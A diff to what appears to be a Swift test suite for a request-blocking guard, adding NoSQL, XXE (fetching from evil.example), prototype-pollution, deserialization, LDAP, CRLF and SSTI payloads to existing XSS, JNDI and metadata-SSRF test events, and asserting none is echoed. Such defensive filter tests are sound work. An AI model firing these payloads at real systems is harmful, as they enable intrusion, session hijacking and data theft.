@@ -33,6 +33,13 @@ import Testing
             event("bad-xss", path: "/comments", body: "<script>alert(document.cookie)</script>"),
             event("bad-jndi", path: "/log", query: "${jndi:ldap://evil.example/a}"),
             event("bad-ssrf", path: "/fetch", query: "http://169.254.169.254/latest/meta-data/"),
+            event("bad-nosqli", path: "/login", body: #"{"user": {"$ne": null}, "password": {"$ne": null}}"#),
+            event("bad-xxe", path: "/import", body: #"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x">]><r>&x;</r>"#),
+            event("bad-proto", path: "/settings", body: #"{"__proto__": {"isAdmin": true}}"#),
+            event("bad-deser", path: "/session", body: #"O:8:"stdClass":1:{s:1:"a";s:1:"b";}"#),
+            event("bad-ldap", path: "/directory", query: "*)(uid=*))(|(uid=*"),
+            event("bad-crlf", path: "/redirect", query: "/home\r\nSet-Cookie: session=attacker"),
+            event("bad-ssti", path: "/greet", query: "{{7*7}}{{config.items()}}"),
         ]
         let secret = event("read-secret", path: "/secret")
         let scenario: [String: Any] = ["events": benign + attacks + [secret], "one_at_a_time": true]
@@ -98,7 +105,8 @@ import Testing
             #expect(headers.contains { $0.first?.lowercased() == "lambda-runtime-function-error-type" && $0.last == "Guard.PayloadBlocked" })
             let body = Data(base64Encoded: e["body_b64"] as? String ?? "").map { String(decoding: $0, as: UTF8.self) } ?? ""
             #expect(!body.contains("etc/passwd") && !body.contains("<script") && !body.contains("evil.example")
-                && !body.contains("OR '1'"), "echoed: \(body)")
+                && !body.contains("OR '1'") && !body.contains("$ne") && !body.contains("Set-Cookie")
+                && !body.contains("config.items"), "echoed: \(body)")
         }
         // The handler never saw an attack, and was denied the secret.
         let seen = ((try? String(contentsOfFile: log, encoding: .utf8)) ?? "").split(separator: "\n")
